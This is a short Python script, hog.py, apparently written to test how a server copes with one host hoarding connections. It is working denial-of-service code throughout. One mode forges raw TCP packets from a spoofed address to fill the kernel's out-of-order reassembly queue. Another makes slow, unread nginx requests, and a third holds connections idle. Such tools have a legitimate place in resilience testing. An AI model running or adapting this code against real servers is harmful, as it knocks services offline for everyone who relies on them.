#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""
hog.py - one host that takes what all need

    hog.py islands SERVER PORT SOURCE CONNECTIONS SECONDS
    hog.py stall SERVER PORT SOURCE CONNECTIONS SECONDS BYTES
    hog.py idle SERVER PORT SOURCE CONNECTIONS SECONDS

islands: each connection sends 511 single bytes with a hole before each, from
an address that no kernel owns.  stall: each asks nginx for /fBYTES and reads
nothing.  idle: each says nothing.  One line, "held=N", when all is in place;
then so many SECONDS of nothing.
"""
import random
import socket
import struct
import sys
import time

from rawtcp import ACK, GET, MOD, Conn, Wire

ISLANDS = 511


def folded(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def islands_of(wire, c):
    """Single bytes two apart.  Only the sequence number changes, so the
    checksum is the first one's with it added."""
    s, d = (socket.inet_pton(wire.family, x) for x in (c.src, c.server))
    fixed = struct.pack(">HH", c.sport, c.port)
    rest = struct.pack(">IBBHHH", c.ack, 5 << 4, ACK, 64240, 0, 0) + b"x"
    pseudo = s + d + struct.pack(">HH", 6, 21) + fixed + rest + b"\0"
    base = sum(struct.unpack(f">{len(pseudo) // 2}H", pseudo))
    if wire.v6:
        ip = struct.pack(">IHBB", 6 << 28, 21, 6, 64) + s + d
    else:
        ip = struct.pack(">BBHHHBBH", 0x45, 0, 41, 0, 0x4000, 64, 6, 0) + s + d
    for i in range(ISLANDS):
        seq = (c.seq + 10 + 2 * i) % MOD
        check = ~folded(base + (seq >> 16) + (seq & 0xFFFF)) & 0xFFFF
        wire.out.sendto(ip + fixed + struct.pack(">I", seq) + rest[:8] +
                        struct.pack(">H", check) + rest[10:], (c.server, 0))


def islands(server, port, source, n):
    wire = Wire("up", ":" in server)
    held = []
    for i in range(n):
        c = Conn(wire, server, port, src=source, sport=10000 + i)
        if c.open() is None:
            continue
        islands_of(wire, c)
        held.append(c)
    return held


def sockets(server, port, source, n, request):
    held = []
    for _ in range(n):
        s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.settimeout(2)
        try:
            s.bind((source, 0))
            s.connect((server, port))
            if request:
                s.sendall(request)
        except OSError:
            s.close()
            continue
        held.append(s)
    return held


def main():
    case, server, port, source, n, seconds = sys.argv[1:7]
    random.seed(1)
    if case == "islands":
        held = islands(server, int(port), source, int(n))
    else:
        request = GET % int(sys.argv[7]) if case == "stall" else None
        held = sockets(server, int(port), source, int(n), request)
    print(f"held={len(held)}", flush=True)
    time.sleep(float(seconds))


main()
